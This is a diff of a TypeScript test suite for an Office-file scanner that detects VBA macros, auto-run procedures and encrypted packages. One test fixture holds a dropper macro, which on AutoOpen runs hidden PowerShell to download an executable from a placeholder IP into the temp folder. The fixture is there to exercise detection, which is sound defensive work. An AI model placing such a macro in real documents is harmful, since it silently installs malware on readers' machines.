@@ -3,7 +3,15 @@ import { createHash } from 'node:crypto';
 import { scanOle } from '../../../src/inspect/office/ole.js';
 import { decryptOoxml } from '../../../src/inspect/office/offcrypto.js';
 import {
-  XLM, buildAgileEncrypted, buildDoc, buildPpt, buildVbaProjectBin, buildWithEmbedded, buildXls, ole10Native, ptg,
+  XLM,
+  buildAgileEncrypted,
+  buildDoc,
+  buildPpt,
+  buildVbaProjectBin,
+  buildWithEmbedded,
+  buildXls,
+  ole10Native,
+  ptg,
   type ModuleSpec,
 } from '../../fixtures/office/ole-builders.js';
 import { oleCtx, recorder, symbols } from '../../fixtures/office/ole-context.js';
@@ -11,13 +19,18 @@ import { oleCtx, recorder, symbols } from '../../fixtures/office/ole-context.js'
 const DROPPER = [
   'Sub AutoOpen()',
   '  Set sh = CreateObject("WScript.Shell")',
-  '  sh.Run "powershell -nop -w hidden -c (New-Object Net.WebClient).DownloadFile(\'http://203.0.113.9/a.exe\',$env:TEMP+\'\\a.exe\')", 0',
+  "  sh.Run \"powershell -nop -w hidden -c (New-Object Net.WebClient).DownloadFile('http://203.0.113.9/a.exe',$env:TEMP+'\\a.exe')\", 0",
   'End Sub',
 ].join('\n');
 
 describe('scanOle', () => {
   it('Word document with an auto-run, suspicious macro', async () => {
-    const doc = buildDoc({ modules: [{ name: 'ThisDocument', code: '', document: true }, { name: 'NewMacros', code: DROPPER }] });
+    const doc = buildDoc({
+      modules: [
+        { name: 'ThisDocument', code: '', document: true },
+        { name: 'NewMacros', code: DROPPER },
+      ],
+    });
     const f = await scanOle(doc, oleCtx('invoice.doc'), recorder().scan);
     assert.deepEqual(symbols(f), ['OFFICE_MACRO', 'OFFICE_MACRO_AUTOEXEC', 'OFFICE_MACRO_SUSPICIOUS']);
     const macro = f.find((x) => x.symbol === 'OFFICE_MACRO')!;
@@ -33,30 +46,47 @@ describe('scanOle', () => {
   it('the macro hash ignores Attribute lines and line endings', async () => {
     const a = await scanOle(buildDoc({ modules: [{ name: 'M', code: 'Sub A()\nEnd Sub' }] }), oleCtx(), recorder().scan);
     const b = await scanOle(buildVbaProjectBin({ modules: [{ name: 'M', code: 'Sub A()   \r\n\r\nEnd Sub\r\n' }] }), oleCtx(), recorder().scan);
-    assert.equal(a[0]!.sha256, b[0]!.sha256);
-    assert.equal(a[0]!.sha256, createHash('sha256').update('Sub A()\nEnd Sub').digest('hex'));
+    assert.equal(a[0].sha256, b[0].sha256);
+    assert.equal(a[0].sha256, createHash('sha256').update('Sub A()\nEnd Sub').digest('hex'));
   });
 
   it('VBA project without code: OFFICE_VBA_PROJECT_EMPTY only', async () => {
-    const xls = buildXls({ vba: { modules: [{ name: 'ThisWorkbook', code: 'Option Explicit\n', document: true }, { name: 'Sheet1', code: '', document: true }], projectLines: ['DPB="0E0CD1"'] } });
+    const xls = buildXls({
+      vba: {
+        modules: [
+          { name: 'ThisWorkbook', code: 'Option Explicit\n', document: true },
+          { name: 'Sheet1', code: '', document: true },
+        ],
+        projectLines: ['DPB="0E0CD1"'],
+      },
+    });
     const f = await scanOle(xls, oleCtx('b.xls'), recorder().scan);
     assert.deepEqual(symbols(f), ['OFFICE_VBA_PROJECT_EMPTY']);
-    assert.equal(f[0]!.part, 'b.xls > _VBA_PROJECT_CUR/VBA');
-    assert.match(f[0]!.detail!, /2 module\(s\) and no code, project locked/);
+    assert.equal(f[0].part, 'b.xls > _VBA_PROJECT_CUR/VBA');
+    assert.match(f[0].detail!, /2 module\(s\) and no code, project locked/);
   });
 
   it('module names in a non-ASCII code page (936) are found through the code page', async () => {
-    const mod: ModuleSpec = { name: '模块1', nameBytes: Buffer.from('c4a3bfe931', 'hex'), noUnicode: true, code: 'Sub 测试()\nEnd Sub\nSub Workbook_Open()\nEnd Sub' };
+    const mod: ModuleSpec = {
+      name: '模块1',
+      nameBytes: Buffer.from('c4a3bfe931', 'hex'),
+      noUnicode: true,
+      code: 'Sub 测试()\nEnd Sub\nSub Workbook_Open()\nEnd Sub',
+    };
     mod.code = 'Sub Test1()\nEnd Sub\nSub Workbook_Open()\nEnd Sub';
     const f = await scanOle(buildVbaProjectBin({ codePage: 936, modules: [mod] }), oleCtx('x.xlsm', {}, []), recorder().scan);
     const macro = f.find((x) => x.symbol === 'OFFICE_MACRO');
     assert.equal(macro?.part, 'x.xlsm > VBA > 模块1');
-    assert.doesNotMatch(macro!.detail!, /recovered/);
+    assert.doesNotMatch(macro.detail!, /recovered/);
     assert.ok(f.some((x) => x.symbol === 'OFFICE_MACRO_AUTOEXEC'));
   });
 
   it('wrong MODULEOFFSET: source recovered from the \\0Attribut signature', async () => {
-    const f = await scanOle(buildDoc({ modules: [{ name: 'Module1', code: 'Sub Document_Open()\nEnd Sub', badOffset: 3, cacheBytes: 40 }] }), oleCtx(), recorder().scan);
+    const f = await scanOle(
+      buildDoc({ modules: [{ name: 'Module1', code: 'Sub Document_Open()\nEnd Sub', badOffset: 3, cacheBytes: 40 }] }),
+      oleCtx(),
+      recorder().scan,
+    );
     const macro = f.find((x) => x.symbol === 'OFFICE_MACRO')!;
     assert.match(macro.detail!, /procedures: Document_Open \(source recovered by signature search\)/);
     assert.ok(f.some((x) => x.symbol === 'OFFICE_MACRO_AUTOEXEC'));
@@ -101,8 +131,8 @@ describe('scanOle', () => {
     const ctx = oleCtx('book.xlsm');
     const f = await scanOle(buildAgileEncrypted(pkg, 'VelvetSweatshop'), ctx, rec.scan);
     assert.equal(rec.calls.length, 1);
-    assert.deepEqual(rec.calls[0]!.bytes, pkg);
-    assert.deepEqual(rec.calls[0]!.path, ['book.xlsm', 'EncryptedPackage']);
+    assert.deepEqual(rec.calls[0].bytes, pkg);
+    assert.deepEqual(rec.calls[0].path, ['book.xlsm', 'EncryptedPackage']);
     assert.deepEqual(symbols(f), ['OFFICE_MACRO']);
     assert.equal(ctx.budget.passwordAttemptsLeft, ctx.limits.maxPasswordAttempts - 1);
   });
@@ -112,12 +142,12 @@ describe('scanOle', () => {
     const enc = buildAgileEncrypted(pkg, '2024');
     const rec = recorder();
     assert.deepEqual(await scanOle(enc, oleCtx('a.docx', {}, ['nope', '2024']), rec.scan), []);
-    assert.deepEqual(rec.calls[0]!.bytes, pkg);
+    assert.deepEqual(rec.calls[0].bytes, pkg);
     const f = await scanOle(enc, oleCtx('a.docx'), recorder().scan);
     assert.deepEqual(symbols(f), ['OFFICE_ENCRYPTED_UNSCANNABLE']);
-    assert.match(f[0]!.detail!, /password unknown/);
+    assert.match(f[0].detail!, /password unknown/);
     const noTries = await scanOle(enc, oleCtx('a.docx', { maxPasswordAttempts: 0 }, ['2024']), recorder().scan);
-    assert.match(noTries[0]!.detail!, /password attempts exhausted/);
+    assert.match(noTries[0].detail!, /password attempts exhausted/);
     assert.equal(decryptOoxml(Buffer.alloc(8), Buffer.alloc(8), ['x'], 5, Date.now() + 1000, 1e6).reason, 'EncryptionInfo version 0.0');
   });
 
@@ -153,7 +183,10 @@ describe('scanOle', () => {
   it('spends the byte budget and stops at the deadline', async () => {
     const doc = buildDoc({ modules: [{ name: 'M', code: 'Sub A()\nEnd Sub\n'.repeat(2000) }] });
     const f = await scanOle(doc, oleCtx('big.doc', { maxBytes: 10_000 }), recorder().scan);
-    assert.ok(f.some((x) => x.symbol === 'ARCHIVE_LIMIT'), JSON.stringify(f));
+    assert.ok(
+      f.some((x) => x.symbol === 'ARCHIVE_LIMIT'),
+      JSON.stringify(f),
+    );
     const late = oleCtx();
     late.budget.deadline = Date.now() - 1;
     assert.deepEqual(symbols(await scanOle(doc, late, recorder().scan)), ['ARCHIVE_LIMIT']);
